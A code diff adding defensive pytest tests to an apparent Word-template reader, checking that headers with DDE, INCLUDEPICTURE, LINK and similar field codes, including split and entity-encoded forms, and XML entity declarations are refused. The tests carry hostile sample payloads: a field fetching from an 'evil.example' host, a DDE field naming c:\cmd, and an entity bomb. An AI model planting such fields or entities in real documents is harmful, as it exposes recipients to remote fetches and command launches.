@@ -105,3 +105,21 @@ def test_a_logo_stands_in_the_header_with_its_text(result: StudyResult, catalogu
         plain = make(paper, Matter(result=result, catalogue=catalogue, on=date(2026, 11, 22)), "de")  # type: ignore[arg-type] - names of papers
         assert len(make(paper, matter, "de")) > len(plain)  # type: ignore[arg-type] - names of papers
     assert b'alt="Logo der Organisation"' in make("report.html", matter, "de")
+
+
+@pytest.mark.parametrize("word", ["INCLUDEPICTURE", "DDEAUTO", "dde", "INCLUDETEXT", "LINK", "MACROBUTTON", "DATABASE"])
+def test_fields_that_fetch_or_start_something_are_refused(word: str) -> None:
+    whole = f'<w:r><w:instrText xml:space="preserve"> {word} "http://evil.example/a" </w:instrText></w:r>'
+    torn = f"<w:r><w:instrText>{word[:2]}</w:instrText></w:r><w:r><w:instrText>{word[2:]} c:\\\\cmd</w:instrText></w:r>"
+    simple = f'<w:fldSimple w:instr=" {word} x "/>'
+    for field in (whole, torn, simple, simple.replace(word, f"&#{ord(word[0])};{word[1:]}")):
+        part = f'<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p>{field}</w:p></w:hdr>'
+        assert code_of(with_part("word/header9.xml", part.encode())) == "template-unknown", field
+    page = '<w:hdr xmlns:w="x"><w:p><w:fldSimple w:instr=" PAGE "/><w:instrText> DATE </w:instrText></w:p></w:hdr>'
+    assert template.read(with_part("word/header9.xml", page.encode()), "vorlage.docx")
+
+
+def test_entities_are_refused_in_every_part() -> None:
+    bomb = '<!DOCTYPE a [<!ENTITY b "lol">]><a>&b;</a>'
+    for name, content in (("word/x.xml", bomb.encode()), ("word/x.bin", bomb.encode()), ("word/x.xml", bomb.encode("utf-16"))):
+        assert code_of(with_part(name, content)) == "template-unknown"
